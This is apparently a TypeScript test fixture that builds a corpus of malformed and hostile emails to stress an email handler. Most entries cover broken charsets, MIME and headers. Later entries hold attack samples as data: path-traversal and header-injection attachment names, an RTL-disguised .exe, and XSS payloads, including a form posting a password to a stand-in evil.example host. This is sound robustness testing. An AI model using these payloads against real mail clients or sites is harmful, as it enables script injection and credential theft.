/**
 * A corpus of hostile inbound messages, generated as bytes (nothing is read from disk), for the
 * email handler's robustness test. Every entry is something a real sending server, a broken MUA
 * or an attacker can put on the wire: broken charsets and MIME structure, enormous headers,
 * thousands of parts, NUL bytes, odd line endings, and hostile attachment names and HTML.
 *
 * `hostileCorpus(to)` builds the list; each message gets a unique Message-ID (unless the point of
 * the message is to have none or a broken one) so per-mailbox de-duplication never hides one.
 */
import { b64, bytes } from "./mail-fixtures";

export interface HostileMessage {
  name: string;
  raw: Uint8Array;
  note: string;
}

const enc = new TextEncoder();

/** Deterministic PRNG (mulberry32) so the corpus is identical on every run. */
function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function randomBytes(n: number, seed: number): Uint8Array {
  const r = prng(seed);
  const out = new Uint8Array(n);
  for (let i = 0; i < n; i++) out[i] = Math.floor(r() * 256);
  return out;
}

/** Percent-encodes every UTF-8 byte (RFC 2231 extended value). */
const pct = (s: string) => [...enc.encode(s)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, "0")}`).join("");
/** RFC 2047 B-word of arbitrary bytes. */
const bword = (charset: string, data: Uint8Array | string) => `=?${charset}?B?${b64(data).replace(/\r\n/g, "")}?=`;

export function hostileCorpus(to: string): HostileMessage[] {
  const out: HostileMessage[] = [];
  let seq = 0;
  const mid = () => `<hostile-${++seq}-${crypto.randomUUID()}@corpus.example>`;
  /** Standard header block (CRLF) with the given extra header lines. */
  const head = (subject: string, extra: string[] = [], opts: { messageId?: string | null; from?: string } = {}) =>
    [
      `From: ${opts.from ?? "Hostile Sender <hostile@corpus.example>"}`,
      `To: ${to}`,
      `Subject: ${subject}`,
      "Date: Wed, 25 Nov 2026 10:00:00 +0000",
      ...(opts.messageId === null ? [] : [`Message-ID: ${opts.messageId ?? mid()}`]),
      "MIME-Version: 1.0",
      ...extra,
    ].join("\r\n") + "\r\n";
  const add = (name: string, note: string, ...parts: Array<string | number[] | Uint8Array>) => out.push({ name, note, raw: bytes(...parts) });
  const simple = (name: string, note: string, contentType: string, body: string | number[] | Uint8Array, extra: string[] = []) =>
    add(name, note, head(name, [`Content-Type: ${contentType}`, ...extra]), "\r\n", body, "\r\n");

  // ── Charsets ────────────────────────────────────────────────────────────────────────────────
  simple("charset-x-unknown", "declared charset no decoder knows", "text/plain; charset=x-unknown", "plain words in an unknown charset");
  simple("charset-empty", "charset parameter present but empty", 'text/plain; charset=""', "empty charset");
  simple("charset-gbk-but-utf8", "GBK declared, UTF-8 bytes sent", "text/plain; charset=GBK", "验证码 123456 — ünïcödé");
  simple("charset-utf8-invalid", "invalid UTF-8: lone continuation, 0xFF, overlong, CESU surrogate, truncated", "text/plain; charset=utf-8", [
    0x41, 0x80, 0x42, 0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf0, 0x9f, 0x98, 0x0d, 0x0a, 0xe2, 0x82,
  ]);
  simple("charset-utf16-odd-bytes", "UTF-16 declared with an odd number of bytes and a lone surrogate", "text/plain; charset=utf-16le", [0x41, 0x00, 0x3d, 0xd8, 0x42]);
  simple("charset-utf7", "UTF-7 (not supported by TextDecoder)", "text/plain; charset=utf-7", "+AGEAYgBj- hello +2D3eAA-");
  simple("charset-utf32", "UTF-32 (not in the WHATWG encodings)", "text/plain; charset=utf-32", [0x41, 0, 0, 0, 0xff, 0xff, 0x10, 0]);
  simple("charset-shift-jis-random", "Shift_JIS declared, random bytes", "text/plain; charset=Shift_JIS", randomBytes(2048, 11));
  simple("charset-big5-truncated", "Big5 with a multibyte sequence cut at the end", "text/plain; charset=Big5", [0xa7, 0x41, 0xa6]);
  simple("charset-iso2022jp-broken-escapes", "ISO-2022-JP with unterminated and bogus escape sequences", "text/plain; charset=ISO-2022-JP", [
    0x1b, 0x24, 0x42, 0x24, 0x33, 0x1b, 0x28, 0x1b, 0x24, 0x29, 0x43, 0xff, 0x1b,
  ]);
  simple("charset-quoted-garbage", "charset parameter with escaped quotes and trailing junk", 'text/plain; charset="utf-8\\"; x=1"; charset=latin1', "double charset");
  simple("charset-10k-name", "a 10,000 character charset name", `text/plain; charset=${"x".repeat(10_000)}`, "long charset");
  add(
    "header-mixed-encodings",
    "one Subject mixing raw UTF-8, raw Latin-1 and encoded words in three charsets",
    head("", [], {}).replace("Subject: \r\n", ""),
    "Subject: raw ü ",
    [0xe9, 0xe8],
    ` ${bword("UTF-8", "日本")} ${bword("ISO-8859-1", Uint8Array.from([0xe9]))} =?GBK?Q?=C4=E3?= tail\r\nContent-Type: text/plain\r\n\r\nbody\r\n`,
  );
  add("rfc2047-bad-base64", "encoded word whose base64 is garbage", head("=?UTF-8?B?@@@!!!***?= and =?UTF-8?B?SGVsbG8?="), "\r\nbody\r\n");
  add("rfc2047-bad-qp", "encoded word with invalid quoted-printable escapes", head("=?UTF-8?Q?=ZZ=4=?= =?UTF-8?Q?a=?="), "\r\nbody\r\n");
  add("rfc2047-unknown-charset", "encoded word in a charset that does not exist", head("=?x-klingon?B?SGVsbG8=?="), "\r\nbody\r\n");
  add("rfc2047-unterminated", "encoded word without its ?= terminator", head("=?UTF-8?B?SGVsbG8"), "\r\nbody\r\n");
  add("rfc2047-empty", "encoded word with empty encoded text", head("=?UTF-8?B??= =?UTF-8?Q??="), "\r\nbody\r\n");
  add("rfc2047-bad-encoding-letter", "encoded word with encoding X", head("=?UTF-8?X?abc?="), "\r\nbody\r\n");
  add("rfc2047-lone-surrogate", "UTF-16 encoded word decoding to a lone surrogate", head(bword("UTF-16BE", Uint8Array.from([0xd8, 0x3d, 0x00, 0x41]))), "\r\nbody\r\n");
  add("rfc2047-1000-words", "a Subject made of 1,000 adjacent encoded words", head(Array.from({ length: 1000 }, (_, i) => bword("UTF-8", `w${i}é`)).join(" ")), "\r\nbody\r\n");
  add("rfc2231-unknown-charset", "RFC 2231 filename in an unknown charset", head("rfc2231", ['Content-Type: multipart/mixed; boundary="b"']), "\r\n--b\r\nContent-Type: text/plain\r\n\r\nx\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=x-bogus''%FF%FE%00\r\n\r\ndata\r\n--b--\r\n");
  add("rfc2231-bad-percent", "RFC 2231 filename with broken percent escapes", head("rfc2231 pct", ['Content-Type: multipart/mixed; boundary="b"']), "\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=UTF-8''%ZZ%E2%82%\r\n\r\ndata\r\n--b--\r\n");
  add("rfc2231-continuations-out-of-order", "RFC 2231 continuations missing and out of order", head("rfc2231 cont", ['Content-Type: multipart/mixed; boundary="b"']), "\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*3=\"d\"; filename*0*=UTF-8''a%E2; filename*1=b; filename*99=z\r\n\r\ndata\r\n--b--\r\n");

  // ── Multipart structure ─────────────────────────────────────────────────────────────────────
  add("multipart-missing-boundary", "multipart/mixed without a boundary parameter", head("no boundary", ["Content-Type: multipart/mixed"]), "\r\n--x\r\nContent-Type: text/plain\r\n\r\nhidden\r\n--x--\r\n");
  add("multipart-empty-boundary", 'boundary=""', head("empty boundary", ['Content-Type: multipart/mixed; boundary=""']), "\r\n--\r\nContent-Type: text/plain\r\n\r\npart\r\n----\r\n");
  add("multipart-never-closed", "boundary opened, never closed", head("never closed", ['Content-Type: multipart/mixed; boundary="open"']), "\r\n--open\r\nContent-Type: text/plain\r\n\r\nfirst\r\n--open\r\nContent-Type: text/html\r\n\r\n<p>second</p>\r\n");
  add("multipart-same-boundary-nested", "a nested multipart reuses its parent's boundary", head("same boundary nested", ['Content-Type: multipart/mixed; boundary="same"']), "\r\n--same\r\nContent-Type: multipart/alternative; boundary=\"same\"\r\n\r\n--same\r\nContent-Type: text/plain\r\n\r\ninner\r\n--same--\r\n--same--\r\n");
  add("multipart-boundary-in-body", "the boundary string appears inside body text", head("boundary in text", ['Content-Type: multipart/mixed; boundary="b1"']), "\r\n--b1\r\nContent-Type: text/plain\r\n\r\nthis line mentions --b1 and --b1-- inline\r\n--b1x not a boundary\r\n --b1\r\n--b1--\r\n");
  add("multipart-boundary-trailing-space", "boundary lines with trailing whitespace and tabs", head("boundary ws", ['Content-Type: multipart/mixed; boundary="ws"']), "\r\n--ws \t \r\nContent-Type: text/plain\r\n\r\nbody\r\n--ws--   \r\n");
  add("multipart-boundary-1000-chars", "a 1,000 character boundary", head("long boundary", [`Content-Type: multipart/mixed; boundary="${"B".repeat(1000)}"`]), `\r\n--${"B".repeat(1000)}\r\nContent-Type: text/plain\r\n\r\nx\r\n--${"B".repeat(1000)}--\r\n`);
  add("multipart-boundary-regex-chars", "boundary made of regular expression metacharacters", head("regex boundary", ['Content-Type: multipart/mixed; boundary="(.*)+?[]{}|^$\\\\"']), "\r\n--(.*)+?[]{}|^$\\\r\nContent-Type: text/plain\r\n\r\nx\r\n--(.*)+?[]{}|^$\\--\r\n");
  add("multipart-close-before-open", "closing delimiter before any opening one", head("close first", ['Content-Type: multipart/mixed; boundary="c"']), "\r\n--c--\r\n--c\r\nContent-Type: text/plain\r\n\r\nafter close\r\n");
  add("multipart-part-without-headers", "a part with no header block at all", head("headerless part", ['Content-Type: multipart/mixed; boundary="h"']), "\r\n--h\r\n\r\nno headers here\r\n--h\r\nno blank line either\r\n--h--\r\n");
  add("multipart-zero-parts", "only the closing delimiter", head("zero parts", ['Content-Type: multipart/mixed; boundary="z"']), "\r\npreamble only\r\n--z--\r\nepilogue\r\n");
  add("multipart-no-subtype", 'Content-Type "multipart/" without a subtype', head("no subtype", ['Content-Type: multipart/; boundary="n"']), "\r\n--n\r\nContent-Type: text/plain\r\n\r\nx\r\n--n--\r\n");
  add("multipart-body-not-multipart", "declared multipart, body is plain text", head("fake multipart", ['Content-Type: multipart/alternative; boundary="nope"']), "\r\njust text, no delimiters at all\r\n");
  add("multipart-base64-container", "Content-Transfer-Encoding base64 on a multipart container", head("b64 container", ['Content-Type: multipart/mixed; boundary="e"', "Content-Transfer-Encoding: base64"]), "\r\n--e\r\nContent-Type: text/plain\r\n\r\nx\r\n--e--\r\n");
  add("multipart-signed-garbage", "multipart/signed with a garbage signature", head("signed", ['Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="s"']), "\r\n--s\r\nContent-Type: text/plain\r\n\r\nsigned text\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n!!!\r\n--s--\r\n");
  add("multipart-encrypted", "multipart/encrypted with an opaque payload", head("encrypted", ['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"']), "\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n", randomBytes(4096, 5), "\r\n--enc--\r\n");
  {
    const parts: string[] = [];
    for (let i = 0; i < 5000; i++) parts.push(`--t\r\nContent-Type: text/plain\r\n\r\np${i}\r\n`);
    add("multipart-5000-text-parts", "5,000 tiny text/plain parts", head("5000 text parts", ['Content-Type: multipart/mixed; boundary="t"']), "\r\n", parts.join(""), "--t--\r\n");
  }
  {
    const parts: string[] = [];
    for (let i = 0; i < 5000; i++) parts.push(`--a\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="f${i}.bin"\r\n\r\n${i}\r\n`);
    add("multipart-5000-attachments", "5,000 tiny attachments", head("5000 attachments", ['Content-Type: multipart/mixed; boundary="a"']), "\r\n", parts.join(""), "--a--\r\n");
  }
  {
    const parts: string[] = [];
    for (let i = 0; i < 1000; i++) parts.push(`--r\r\nContent-Type: image/gif\r\nContent-ID: <img${i}@corpus>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\nR0lGODlhAQABAAAAACw=\r\n`);
    add("multipart-1000-inline-images", "1,000 inline images referenced by cid", head("1000 inline", ['Content-Type: multipart/related; boundary="r"']), "\r\n--r\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:img0@corpus\">\r\n", parts.join(""), "--r--\r\n");
  }
  for (const depth of [30, 70, 300]) {
    let body = "deepest text\r\n";
    for (let i = depth; i > 0; i--) body = `--n${i}\r\nContent-Type: ${i === depth ? "text/plain" : `multipart/mixed; boundary="n${i + 1}"`}\r\n\r\n${body}--n${i}--\r\n`;
    add(`multipart-nested-${depth}`, `multipart nested ${depth} levels deep`, head(`nested multipart ${depth}`, ['Content-Type: multipart/mixed; boundary="n1"']), "\r\n", body);
  }

  // ── Nested message/rfc822 ───────────────────────────────────────────────────────────────────
  for (const depth of [1, 10, 50, 64, 65, 100, 200]) {
    let inner = `From: level${depth}@corpus.example\r\nSubject: level ${depth}\r\nContent-Type: text/plain\r\n\r\nthe innermost message\r\n`;
    for (let i = depth - 1; i >= 1; i--) inner = `From: level${i}@corpus.example\r\nSubject: level ${i}\r\nContent-Type: message/rfc822\r\n\r\n${inner}`;
    add(`rfc822-nested-${depth}`, `message/rfc822 nested ${depth} levels`, head(`rfc822 x${depth}`, ["Content-Type: message/rfc822"]), "\r\n", inner);
  }
  add("rfc822-empty", "message/rfc822 attachment with an empty body", head("empty rfc822", ['Content-Type: multipart/mixed; boundary="m"']), "\r\n--m\r\nContent-Type: message/rfc822\r\n\r\n\r\n--m--\r\n");
  add("rfc822-base64-garbage", "base64-encoded message/rfc822 whose payload is binary garbage", head("b64 rfc822", ['Content-Type: multipart/mixed; boundary="m"']), "\r\n--m\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n", b64(randomBytes(3000, 7)), "\r\n--m--\r\n");
  add("rfc822-delivery-status", "a bounce (multipart/report) with delivery-status and a truncated original", head("bounce", ['Content-Type: multipart/report; report-type=delivery-status; boundary="rep"']), "\r\n--rep\r\nContent-Type: text/plain\r\n\r\nDelivery failed\r\n--rep\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; a@b\r\nStatus: 5.0.0\r\n--rep\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b\r\nSubject: trunc");
  add("message-partial", "message/partial fragment", head("partial", ['Content-Type: message/partial; id="abc@x"; number=2; total=3']), "\r\nfragment two\r\n");
  add("message-external-body", "message/external-body pointing to a URL", head("external", ['Content-Type: message/external-body; access-type=URL; URL="http://127.0.0.1/evil"']), "\r\nContent-Type: text/plain\r\n\r\n");

  // ── Enormous headers ────────────────────────────────────────────────────────────────────────
  add("header-subject-1mib", "a 1 MiB Subject", head("S".repeat(1024 * 1024)), "\r\nbody\r\n");
  add("header-subject-3mib", "a 3 MiB Subject (beyond the parser's header limit)", head("T".repeat(3 * 1024 * 1024)), "\r\nbody\r\n");
  {
    const lines = Array.from({ length: 10_000 }, (_, i) => `X-Filler-${i}: value ${i}`);
    add("header-10000-lines", "10,000 header lines", head("10k headers", lines), "\r\nbody\r\n");
    const received = Array.from({ length: 10_000 }, (_, i) => `Received: from hop${i}.example by hop${i + 1}.example; Wed, 25 Nov 2026 10:00:00 +0000`);
    add("header-10000-received", "10,000 Received lines (a mail loop)", head("10k received", received), "\r\nbody\r\n");
  }
  {
    const addrs: string[] = [];
    let size = 0;
    for (let i = 0; size < 100 * 1024; i++) {
      const a = `"Recipient ${i}" <r${i}@list.example>`;
      addrs.push(a);
      size += a.length + 2;
    }
    add("header-to-100kb", `a 100 KB To: list (${addrs.length} addresses)`, head("100k To", [`Cc: ${addrs.join(", ")}`]).replace(`To: ${to}`, `To: ${to}, ${addrs.join(",\r\n ")}`), "\r\nbody\r\n");
  }
  add("header-10000-continuations", "one header folded over 10,000 continuation lines", head("folded", [`X-Folded: start${"\r\n\tcontinued".repeat(10_000)}`]), "\r\nbody\r\n");
  add("header-line-without-colon-100kb", "a 100 KB header line with no colon", head("no colon", ["N".repeat(100 * 1024)]), "\r\nbody\r\n");
  add("header-from-name-1mib", "a 1 MiB From display name", head("big from", [], { from: `"${"F".repeat(1024 * 1024)}" <big@corpus.example>` }), "\r\nbody\r\n");
  add("header-references-1mib", "a 1 MiB References header", head("big refs", [`References: ${Array.from({ length: 20_000 }, (_, i) => `<ref${i}@x.example>`).join(" ")}`]), "\r\nbody\r\n");
  add("header-content-type-10000-params", "Content-Type with 10,000 parameters", head("many params", [`Content-Type: text/plain; ${Array.from({ length: 10_000 }, (_, i) => `p${i}=v${i}`).join("; ")}`]), "\r\nbody\r\n");
  add("header-message-id-10kb", "a 10 KB Message-ID", head("big message id", [], { messageId: `<${"m".repeat(10_000)}-${crypto.randomUUID()}@x>` }), "\r\nbody\r\n");
  add("header-duplicate-subjects", "100 Subject headers", head("first subject", Array.from({ length: 100 }, (_, i) => `Subject: dup ${i}`)), "\r\nbody\r\n");
  add("header-address-chaos", "From/To/Cc with unbalanced brackets, quotes, nested groups and comments", head("address chaos", ['Cc: <<<>>>@@@, "unterminated <x@y>, a: b: c@d;;, (((((((((nested))))))))) e@f, @, <>, "" <"">, undefined@', `Reply-To: ${"(".repeat(2000)}x@y`], { from: 'group: ;, "q\\"uote" <a"b@c>' }), "\r\nbody\r\n");
  add("header-date-garbage", "Date values no parser understands, and year 275760", head("bad date", ["Date: Tue, 99 Foo 275760 99:99:99 +9999"]), "\r\nbody\r\n");
  add("header-starts-with-continuation", "the first line is a folded continuation", " leading fold\r\n", head("leading fold"), "\r\nbody\r\n");

  // ── Empty and degenerate messages ───────────────────────────────────────────────────────────
  add("empty-zero-bytes", "zero bytes", new Uint8Array(0));
  add("only-crlf", 'the message is only "\\r\\n"', "\r\n");
  add("only-lf", 'the message is only "\\n"', "\n");
  add("only-whitespace", "spaces and tabs only", " \t  \t ");
  add("header-only-no-blank-line", "headers with no blank line and no body", head("header only").slice(0, -2));
  add("header-only-with-blank-line", "headers, blank line, no body", head("header only blank"), "\r\n");
  add("no-headers-body-only", "a blank line then a body", "\r\nbody without headers 123456\r\n");
  add("no-headers-text-only", "text that is not a header at all", "hello there, this is not a header\r\nnor this\r\n");
  add("empty-subject-header", "Subject present but empty", "Subject:\r\nFrom:\r\nTo:\r\n\r\n");
  add("only-colon", 'the message is ":"', ":");
  add("header-empty-name", "a header with an empty name", ": value without a name\r\nSubject: x\r\n\r\nbody\r\n");
  add("mbox-from-line", 'an mbox "From " separator before the headers', "From hostile@corpus.example Wed Nov 25 10:00:00 2026\r\n", head("mbox"), "\r\nbody\r\n");
  add("utf8-bom", "a UTF-8 byte order mark before the first header", [0xef, 0xbb, 0xbf], head("bom"), "\r\nbody\r\n");
  add("empty-base64-body", "base64 transfer encoding with an empty body", head("empty b64", ["Content-Type: text/plain", "Content-Transfer-Encoding: base64"]), "\r\n");

  // ── NUL and control bytes ───────────────────────────────────────────────────────────────────
  add("nul-in-subject", "NUL bytes inside the Subject", "Subject: a\u0000b\u0000\u0000c\r\nMessage-ID: ", mid(), "\r\n\r\nbody\r\n");
  add("nul-in-header-name", "NUL inside a header name", head("nul name", ["X-Nu\u0000ll: value", "\u0000: empty"]), "\r\nbody\r\n");
  add("nul-in-body", "NUL bytes throughout the body", head("nul body", ["Content-Type: text/plain; charset=utf-8"]), "\r\n", new Uint8Array(1000), "code 778899\u0000\r\n");
  add("nul-in-message-id", "NUL inside the Message-ID", head("nul mid", [], { messageId: `<nul\u0000${crypto.randomUUID()}@x>` }), "\r\nbody\r\n");
  add("all-byte-values", "every byte value 0x00–0xFF in the body, 8bit", head("all bytes", ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"]), "\r\n", Uint8Array.from({ length: 256 }, (_, i) => i), "\r\n");
  add("random-binary-64k", "64 KB of random bytes, no structure at all", randomBytes(64 * 1024, 42));
  add("random-binary-after-headers", "valid headers then 256 KB of random bytes", head("binary body"), "\r\n", randomBytes(256 * 1024, 43));
  add("ansi-escapes-in-subject", "terminal escape sequences and Unicode line separators in the Subject", head("\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u2028\u2029 end"), "\r\nbody\r\n");

  // ── Line endings and long lines ─────────────────────────────────────────────────────────────
  add("bare-lf", "LF line endings only", head("bare lf").replace(/\r\n/g, "\n"), "\nbody line 1\nline 2\n");
  add("bare-cr", "CR line endings only", head("bare cr").replace(/\r\n/g, "\r"), "\rbody line 1\rline 2\r");
  add("mixed-line-endings", "CRLF, LF, CR and LFCR mixed", "From: a@b\r\nTo: x@y\nSubject: mixed\rMessage-ID: ", mid(), "\n\r\n\rbody\r\nline\nline\rline\n\r");
  add("multipart-bare-lf", "multipart with LF line endings", head("mp lf", ['Content-Type: multipart/mixed; boundary="l"']).replace(/\r\n/g, "\n"), "\n--l\nContent-Type: text/plain\n\nlf part\n--l--\n");
  add("long-line-5mb", "a single 5 MB body line", head("5mb line", ["Content-Type: text/plain"]), "\r\n", "L".repeat(5 * 1024 * 1024), "\r\n");
  add("long-line-1mb-no-headers", "a 1 MB line with no header block", "Q".repeat(1024 * 1024));
  add("long-line-spaces", "100,000 spaces then a code", head("spaces", ["Content-Type: text/plain"]), "\r\n", " ".repeat(100_000), "code 135790\r\n");
  {
    const payload = b64(randomBytes(3 * 1024 * 1024, 9)).replace(/\r\n/g, "");
    add("base64-4mb-single-line", "a 4 MB base64 attachment on one line", head("b64 line", ['Content-Type: multipart/mixed; boundary="bl"']), "\r\n--bl\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"one-line.bin\"\r\n\r\n", payload, "\r\n--bl--\r\n");
  }

  // ── Transfer encodings ──────────────────────────────────────────────────────────────────────
  simple("base64-invalid", "base64 body that is not base64", "text/plain", "!!!@@@###$$$ not base64 at all ~~~", ["Content-Transfer-Encoding: base64"]);
  simple("base64-bad-padding", "base64 with padding in the middle and too much at the end", "text/plain", "SGVs=bG8===\r\nV29y==bGQ=====", ["Content-Transfer-Encoding: base64"]);
  simple("base64-interspersed-garbage", "base64 with garbage characters between groups", "text/plain", "SGVsbG8g*V29ybGQ?IDEyMzQ1Ng==", ["Content-Transfer-Encoding: base64"]);
  simple("qp-invalid", "quoted-printable with invalid escapes", "text/plain; charset=utf-8", "bad =ZZ escape =4 half =\r\nsoft break =E2=82 truncated =", ["Content-Transfer-Encoding: quoted-printable"]);
  simple("qp-soft-break-eof", "quoted-printable ending in a soft line break", "text/plain", "ends with a soft break=", ["Content-Transfer-Encoding: quoted-printable"]);
  simple("cte-unknown", "an unknown transfer encoding", "text/plain", "begin 644 file\r\n#0V%T\r\n`\r\nend", ["Content-Transfer-Encoding: x-uuencode"]);
  simple("cte-garbage-10k", "a 10,000 character transfer encoding", "text/plain", "body", [`Content-Transfer-Encoding: ${"z".repeat(10_000)}`]);
  simple("cte-8bit-binary", "8bit declared on random binary", "application/octet-stream", randomBytes(8192, 3), ["Content-Transfer-Encoding: 8bit"]);
  for (const [cte, charset] of [
    ["base64", "utf-16be"],
    ["quoted-printable", "x-unknown"],
    ["base64", "gbk"],
    ["quoted-printable", "iso-2022-jp"],
    ["7bit", "utf-8"],
    ["binary", "windows-1252"],
  ] as const) {
    const body = cte === "base64" ? b64(randomBytes(300, charset.length)) : cte === "quoted-printable" ? "=FF=FE=00=D8=3D=E2=82=AC bad=" : "\u00ff\u00fe garbage";
    simple(`cte-${cte}-${charset}`, `${cte} payload in ${charset} that does not decode cleanly`, `text/plain; charset=${charset}`, body, [`Content-Transfer-Encoding: ${cte}`]);
  }

  // ── Attachment names ────────────────────────────────────────────────────────────────────────
  const attachment = (name: string, note: string, disposition: string, contentType = "application/octet-stream") =>
    add(
      name,
      note,
      head(name, ['Content-Type: multipart/mixed; boundary="att"']),
      "\r\n--att\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n",
      `--att\r\nContent-Type: ${contentType}\r\nContent-Disposition: ${disposition}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64("attachment payload")}\r\n--att--\r\n`,
    );
  attachment("filename-path-traversal", "../../../etc/passwd", 'attachment; filename="../../../etc/passwd"');
  attachment("filename-windows-traversal", "..\\..\\windows\\system32\\evil.dll", 'attachment; filename="..\\\\..\\\\windows\\\\system32\\\\evil.dll"');
  attachment("filename-absolute", "an absolute path", 'attachment; filename="/var/www/html/index.php"');
  attachment("filename-control-chars", "CR, LF, NUL, BEL and ESC in a decoded filename", `attachment; filename="${bword("UTF-8", "a\r\nb\u0000c\u0007d\u001b[31m.txt")}"`);
  attachment("filename-header-injection", "an encoded name that decodes to a header injection", `attachment; filename="${bword("UTF-8", 'x.txt"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>')}"`);
  attachment("filename-rtl-override", "RTL override hiding an .exe", `attachment; filename*=UTF-8''${pct("invoice\u202Efdp.exe")}`);
  attachment("filename-10000-chars", "a 10,000 character filename", `attachment; filename="${"n".repeat(10_000)}.txt"`);
  attachment("filename-emoji-200", "200 emoji (surrogate pairs), cut at odd lengths", `attachment; filename*=UTF-8''${pct("a" + "😀".repeat(200) + ".png")}`);
  attachment("filename-emoji-odd", "a filename whose 255th UTF-16 unit is half an emoji", `attachment; filename*=UTF-8''${pct("b".repeat(254) + "😀😀.txt")}`);
  attachment("filename-emoji-180", "a filename whose 180th UTF-16 unit is half an emoji", `attachment; filename*=UTF-8''${pct("c".repeat(179) + "😀.txt")}`);
  attachment("filename-quotes-backslashes", 'quotes and backslashes: a"b\\"c', 'attachment; filename="a\\"b\\\\\\"c.txt"');
  attachment("filename-semicolons", "semicolons, equals signs and percent signs", 'attachment; filename="a;b=c%20d; filename=evil.exe"');
  attachment("filename-empty", "an empty filename", 'attachment; filename=""');
  attachment("filename-dots", "a filename made of dots", 'attachment; filename="..."');
  attachment("filename-percent-nul", "RFC 2231 %00 inside a name", "attachment; filename*=UTF-8''evil%00.txt");
  attachment("filename-only-in-content-type", "name= on Content-Type only, with traversal", "attachment", 'application/octet-stream; name="../ct-name.bin"');
  attachment("filename-homoglyphs", "Cyrillic homoglyphs and combining marks", `attachment; filename*=UTF-8''${pct("раураl\u0301.com.pdf")}`);
  attachment("filename-lone-surrogate", "a UTF-16 encoded name decoding to a lone surrogate", `attachment; filename="${bword("UTF-16BE", Uint8Array.from([0x00, 0x61, 0xdc, 0x00, 0x00, 0x62]))}"`);
  attachment("content-type-hostile", "a Content-Type value that is a path with quotes", "attachment; filename=x.bin", 'text/html"; x="../../evil');
  attachment("content-type-newline-encoded", "an attachment whose type has spaces and unicode", "attachment; filename=y.bin", "application/x évil type");
  attachment("content-id-garbage", "an inline part with a hostile Content-ID", "inline; filename=z.png\r\nContent-ID: <../../x\"'><script>@evil>", "image/png");
  attachment("disposition-garbage", "a Content-Disposition that is garbage", ";;;===;;;filename", "application/pdf");

  // ── Hostile HTML ────────────────────────────────────────────────────────────────────────────
  const html = (name: string, note: string, markup: string) => simple(name, note, "text/html; charset=utf-8", markup);
  html("html-script", "inline and external scripts", '<p>Hi 246810</p><script>alert(document.cookie)</script><script src="https://evil.example/x.js"></script>');
  html("html-iframe-javascript", "iframes with javascript: and data: sources", '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(2)</script>"></iframe><iframe src="data:text/html,<script>alert(3)</script>"></iframe>');
  html("html-javascript-links", "javascript: and vbscript: links, obfuscated", '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt&colon;alert(1)">b</a><a href=" &#106;avascript:alert(1)">c</a><a href="vbscript:msgbox">d</a>');
  html("html-event-handlers", "event handler attributes and remote images", '<img src="https://tracker.example/p.gif" onerror="alert(1)"><svg onload="alert(2)"><body onload="alert(3)"><div onmouseover="alert(4)">x</div>');
  html("html-meta-refresh-base-form", "meta refresh, base href, a form posting elsewhere", '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><form action="https://evil.example/steal" method="post"><input name="password"></form>');
  html("html-style-attacks", "CSS expression(), @import and url() beacons", '<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.gif)} p{width:expression(alert(1))}</style><p style="background:url(javascript:alert(1))">x</p>');
  html("html-unclosed-comment-cdata", "unclosed comment and CDATA", "<p>before</p><!-- never closed <script>alert(1)</script><![CDATA[ also never closed");
  html("html-entity-chaos", "out-of-range, NUL, surrogate and CP1252 numeric entities", "&#0; &#xD800; &#xFFFFFFFF; &#99999999999; &#x110000; &#128; &#x9F; &amp &lt;script&gt; &notanentity; code &#x33;&#x34;&#x35;&#x36;&#x37;&#x38;");
  html("html-deep-nesting", "100,000 nested <div> elements", "<div>".repeat(100_000) + "deep" + "</div>".repeat(100_000));
  html("html-3mb", "3 MB of HTML", "<p>" + "word ".repeat(600_000) + "</p>");
  html("html-unterminated-tags", "tags and attributes that never end", '<a href="x<img src=y <p <<<<<>>>> <script <!DOCTYPE <?xml ?> <svg><foreignObject><math><mi xlink:href="javascript:alert(1)">');
  add("html-and-text-conflict", "text/plain and text/html parts in different broken charsets", head("alt conflict", ['Content-Type: multipart/alternative; boundary="alt"']), "\r\n--alt\r\nContent-Type: text/plain; charset=x-unknown\r\n\r\nplain\r\n--alt\r\nContent-Type: text/html; charset=utf-16\r\n\r\n<p>html</p>\r\n--alt--\r\n");

  // ── Binary formats ──────────────────────────────────────────────────────────────────────────
